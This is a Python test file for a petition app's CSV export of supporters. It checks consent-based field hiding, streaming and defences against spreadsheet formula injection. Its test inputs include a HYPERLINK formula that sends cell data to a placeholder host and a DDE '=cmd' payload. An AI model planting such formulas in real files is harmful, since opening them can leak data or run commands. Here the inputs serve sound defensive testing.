"""The file of supporters: what is in it, and what never is."""

import csv
import io
import re
import tracemalloc
from datetime import UTC, datetime

import pytest

from supporters import download, reasons
from supporters.download import cells, lines, safe, shared
from supporters.fold import fold
from supporters.models import Consent, Download, ReasonChoice, Signature
from supporters.withdrawing import withdraw
from tests.factories import PetitionFactory, SignatureFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def consent(db):
    return Consent.objects.create(purpose="organizer_writes", language="en", wording="Yes")


@pytest.fixture
def petition(db):
    return PetitionFactory(is_open=True, organizer=UserFactory())


def begun(petition) -> Download:
    return Download.objects.create(petition=petition, by=petition.organizer, by_name="ana")


def rows(petition) -> list[dict[str, str]]:
    text = b"".join(lines(petition, begun(petition))).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def signature(petition, **fields):
    values = {
        "given_name": "Sam", "family_name": "Okoye", "email": "sam@example.org", "country": "GB",
        "postal_code": "SW1A 1AA", "language": "en", "source": "leaflet", "reason": "I cross it.",
        "created_at": datetime(2026, 5, 1, 7, 8, 9, tzinfo=UTC),
        "confirmed_at": datetime(2026, 5, 2, 10, tzinfo=UTC),
        "status": "confirmed", **fields,
    }  # fmt: skip
    return SignatureFactory(petition=petition, **values)


def test_who_agreed_is_there_with_all_of_it(petition, consent):
    signature(petition, consent=consent, display="full")
    assert rows(petition) == [
        {
            "email": "sam@example.org",
            "first_name": "Sam",
            "last_name": "Okoye",
            "city": "",
            "state": "",
            "zip": "SW1A 1AA",
            "country": "GB",
            "language": "en",
            "created_at": "2026-05-01T07:08:09Z",
            "email_opt_in": "true",
            "source": "leaflet",
            "comment": "I cross it.",
        }
    ]


def test_who_did_not_is_there_as_on_the_page(petition):
    signature(petition, display="initial")
    [row] = rows(petition)
    assert {name: value for name, value in row.items() if value} == {
        "first_name": "Sam",
        "last_name": "O.",
        "created_at": "2026-05-02",
        "email_opt_in": "false",
        "comment": "I cross it.",
    }


def test_who_agreed_but_is_not_shown_has_an_address_and_no_name(petition, consent):
    signature(petition, consent=consent, display="hidden")
    [row] = rows(petition)
    assert row["email"] == "sam@example.org"
    assert (row["first_name"], row["last_name"], row["comment"]) == ("", "", "")


def test_a_reason_that_was_taken_off_the_page_is_not_there(petition, consent):
    taken_off = signature(petition, consent=consent, display="full")
    signature(petition, email="tia@example.org", display="full", reason="So do I.")
    hide = ReasonChoice.Kind.HIDDEN
    reasons.choose(petition, taken_off.pk, hide, by=UserFactory(), by_moderators=True)
    assert [row["comment"] for row in rows(petition)] == ["", "So do I."]


def test_who_else_is_not_there(petition, consent):
    signature(petition, display="hidden")
    signature(petition, email="a@example.org", status="pending", confirmed_at=None, consent=consent)
    gone = signature(petition, email="b@example.org", consent=consent)
    fold(petition.pk)
    assert withdraw(gone.pk)
    signature(PetitionFactory(is_open=True), email="c@example.org", consent=consent)
    assert rows(petition) == []


def test_the_head_is_what_other_programs_expect(petition):
    text = b"".join(lines(petition, begun(petition)))
    assert text == (
        b"\xef\xbb\xbfemail,first_name,last_name,city,state,zip,country,language,created_at,"
        b"email_opt_in,source,comment\r\n"
    )


HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1)',
    "+1", "-1", "@SUM(A1)", "\t=1", "  =1", "＝1", "-2+3\n=4",
    'a "quoted", b', "two\nlines", "\u202eright to left", "שלום, עולם", "🙂", "'=1", ";=1", "",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula_and_nothing_moves_into_another(petition, text):
    # Past the form, which would take some of it away.
    signature(petition, display="full", reason=text, given_name=text[:100])
    [row] = rows(petition)
    assert len(row) == 12
    for cell, typed in ((row["comment"], text), (row["first_name"], text)):
        assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r＝"))
        assert cell.replace("'", "") == typed.replace("'", "")
    assert row["last_name"] == "Okoye"


@pytest.mark.parametrize(
    "text",
    ["hola;=1+1;x", "two\n=cmd|'/C calc'!A0\nx", 'a";"=1', "a\r\n  +1", "a;\t@SUM(A1)", "a;;＝1"],
)
def test_no_cell_is_a_formula_where_semicolons_separate(petition, text):
    signature(petition, display="full", reason=text)
    lines_out = b"".join(lines(petition, begun(petition))).decode()
    # As a spreadsheet there takes it apart: each end of a line or a cell begins another cell.
    for cell in re.split(r"[;\t\r\n]", lines_out):
        assert not cell.lstrip('" ').startswith(tuple("=+-@＝"))


def test_harmless_text_is_left_alone():
    for text in ("Sam", "O'Neill", "a=b", "1-2", "", "José", "a; b", "one\ntwo = 2", "a;b"):
        assert safe(text) == text


def test_many_go_out_in_steps_each_once(petition, consent, monkeypatch, count_queries):
    monkeypatch.setattr(download, "STEP", 10)
    SignatureFactory.create_batch(35, petition=petition, is_confirmed=True, consent=consent)
    SignatureFactory.create_batch(10, petition=petition, is_confirmed=True, display="hidden")
    fold(petition.pk)
    with count_queries() as queries:
        found = rows(petition)
    assert len({row["email"] for row in found}) == len(found) == 35
    # The log twice; the fold's two or three; four steps and one that is empty.
    assert len(queries) <= 10, queries
    noted = Download.objects.get()
    assert (noted.rows, noted.addresses) == (35, 35)
    assert noted.ended_at is not None


def test_who_withdraws_meanwhile_is_left_out_of_what_is_to_come(petition, consent, monkeypatch):
    monkeypatch.setattr(download, "STEP", 2)
    made = [
        SignatureFactory(petition=petition, is_confirmed=True, consent=consent, display="full")
        for _ in range(4)
    ]
    fold(petition.pk)
    made = sorted(Signature.objects.filter(petition=petition), key=lambda row: row.position)
    noted = begun(petition)
    pieces = lines(petition, noted)
    text = next(pieces) + next(pieces)
    assert withdraw(made[0].pk)
    assert withdraw(made[3].pk)
    text += b"".join(pieces)
    found = [row["email"] for row in csv.DictReader(io.StringIO(text.decode("utf-8-sig")))]
    assert found == [row.email for row in made[:3]]
    noted.refresh_from_db()
    assert noted.rows == 3


def test_a_download_that_was_broken_off_is_noted_with_what_went_out(petition, monkeypatch):
    monkeypatch.setattr(download, "STEP", 2)
    SignatureFactory.create_batch(6, petition=petition, is_confirmed=True, display="full")
    noted = begun(petition)
    pieces = lines(petition, noted)
    next(pieces)
    next(pieces)
    pieces.close()
    noted.refresh_from_db()
    assert (noted.rows, noted.addresses) == (2, 0)
    noted.end(rows=99, addresses=99)  # once
    noted.refresh_from_db()
    assert noted.rows == 2


def test_who_confirmed_a_moment_ago_is_in_it(petition):
    signature(petition, display="full")
    assert Signature.objects.get().position is None
    assert len(rows(petition)) == 1


def test_no_more_than_a_step_is_in_memory(petition, monkeypatch):
    monkeypatch.setattr(download, "STEP", 20)
    SignatureFactory.create_batch(
        800, petition=petition, is_confirmed=True, display="full", reason="x" * 500
    )
    fold(petition.pk)
    tracemalloc.start()
    for _piece in lines(petition, begun(petition)):
        pass
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 800 * 500, most  # the reasons alone


def test_a_step_is_found_by_the_index(petition):
    plan = shared(petition.pk).filter(position__gt=5).order_by("position")[:10].explain()
    assert "supporters_signature_position_once" in plan


def test_one_line_has_a_cell_for_each_column():
    row = dict.fromkeys(download._READ, "") | {
        "consent_id": None, "display": "full", "confirmed_at": datetime(2026, 5, 2, tzinfo=UTC),
    }  # fmt: skip
    assert len(cells(row)) == len(download.COLUMNS)
